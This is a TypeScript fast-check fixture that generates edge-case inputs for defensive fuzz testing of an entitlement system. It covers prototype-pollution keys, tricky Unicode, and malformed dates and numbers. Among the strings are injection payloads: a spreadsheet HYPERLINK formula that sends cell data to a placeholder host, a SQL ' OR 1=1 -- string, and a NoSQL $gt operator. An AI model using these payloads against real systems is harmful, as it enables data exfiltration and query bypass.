import fc from 'fast-check'

/** Values that break something somewhere. */

const words = (text: string): readonly string[] => text.split(' ')

/** What every object has without being asked. */
export const prototypes = words('__proto__ constructor toString hasOwnProperty prototype valueOf then')

/** What our own keys look like. */
export const ourKeys = [
  ...words('partner#bni certificate#C-P-1 account#0 scheme#prakerja-2020 quarantine#0 P-1#incentive-1'),
  ...words('ENTITLEMENT CONTROL CERTIFICATE SURVEY#1 CERTIFICATE#C-P-1 incentive-1 entitlement#0001'),
]

const unicode = [
  ...words('\u0000 C\u0000 \u0085 \u001b[2J C\ud800 \udfff \ud83d\ude00 \u{10ffff} \uffff'),
  ...words('\u202eI-P C\u2066-1\u2069 \u200b C\u200b-1 \ufeff \u00a0 \u2028 \u00ad'),
  ...words(
    'Z\u0335\u0321\u0327 \u0130\u0131\ufb03\u1e9e \u0661\u0662\u0663\u0664\u0665\u0666 \uff10\uff18\uff11\uff12',
  ),
  ...['e\u0301', '\u5b57', '\u{1f600}'].flatMap((letter) => [letter.repeat(50), letter.repeat(51)]),
]
const spaces = ['', ' ', '  ', '\t', '\n', 'P 1', ' P-1', 'P-1\n']
const formulas = words('=1+1 +1 -1 @A1 =HYPERLINK("http://x/?"&B2,"ok") \uff1d1 1=1').concat(
  ' =1',
  '\u3000=1',
)
const lookalikes = [...words("- 0 # 5 '5' 5.0 1e400 null true {{x}} %s .."), "' OR 1=1 --", '{"$gt":""}']
const lengths = [30, 31, 34, 35, 100, 101].flatMap((length) =>
  ['A', '8', '\u5b57'].map((letter) => letter.repeat(length)),
)
const texts = [
  ...prototypes,
  ...ourKeys,
  ...unicode,
  ...spaces,
  ...lookalikes,
  ...formulas,
  ...lengths,
  'A'.repeat(10_240),
]

/** Days with a time, times with a day, offsets with both. */
const times = [
  ...words(
    '2020-02-29 2020-02-30 2019-02-29 2020-13-01 2020-00-01 2020-09-00 2020-02-28 2020-02-27 2020-12-15',
  ),
  ...words(
    '0000-01-01 0001-01-01 1582-10-10 1969-12-31 9999-12-31 2020-09-19 2021-03-04 2021-03-05 2020-W36-2',
  ),
  ...words(
    '-000000-01-01 +275760-09-13 -271821-04-20 +002020-09-01 +010000-01-01 2020-0901 20200901 20-09-01',
  ),
]
  .map((day) => `${day}T23:59:59+07:00`)
  .concat(
    words('23:59:60 23:59:61 24:00:00 23:60:00 10:00 10 100000 10:0000 1000:00 10:00:00.5 10:00:00,5').map(
      (clock) => `2020-06-30T${clock}Z`,
    ),
    words('10:00:00.123456789 10:00:00.1234567891 10:00:00. 10:00:0 -1:00:00 10:00:00[u-ca=x]').map(
      (clock) => `2020-06-30T${clock}+00:00`,
    ),
    words(
      '+99:99 +24:00 +23:59 -23:59 -00:00 +07:60 +7 +0700 +07 +07:00:00 Z z \u221207:00 Z[Asia/Jakarta]',
    ).map((offset) => `2020-09-01T10:00:00${offset}`),
    words(
      '0000-01-01T00:00:00Z 0000-01-01T00:00:00+00:01 9999-12-31T23:59:59.999Z 9999-12-31T23:59:59-00:01',
    ),
    words('2020-09-18T10:05:01+07:00 2020-09-18T10:05:02+07:00 2020-09-01t10Z 2020-09-01 1598929200'),
    ['2020-09-01 10:00Z', '2020-09-01  10:00Z', ' 2020-09-01T10:00:00Z', '2020-09-01T10:00:00+07:00 '],
  )
const numbers = [
  0,
  -0,
  -1,
  1,
  2,
  3,
  4,
  5,
  6,
  11,
  12,
  0.1,
  5.5,
  1e21,
  1e308,
  5e-324,
  2 ** 53,
  -(2 ** 53),
  2 ** 31,
]
const shapes: readonly unknown[] = [
  null,
  true,
  false,
  [],
  {},
  [[]],
  ['P-1'],
  [5],
  { 0: 'P-1' },
  { length: 1 },
  { toString: 1 },
]

const misshapen = [...shapes, ...numbers, ...texts]

/** What may stand where a text, a time or a number belongs: much of it is at least of the right kind. */
export const hostileValues: Readonly<Record<'text' | 'time' | 'number', readonly unknown[]>> = {
  text: misshapen,
  time: [...times, ...times, ...misshapen],
  number: [...numbers, ...numbers, ...misshapen],
}

/** Any 16-bit units, half a surrogate pair among them. */
const noise = fc.array(fc.nat(0xffff), { maxLength: 20 }).map((units) => String.fromCharCode(...units))
export const hostileText = fc.oneof(fc.constantFrom(...texts), noise)
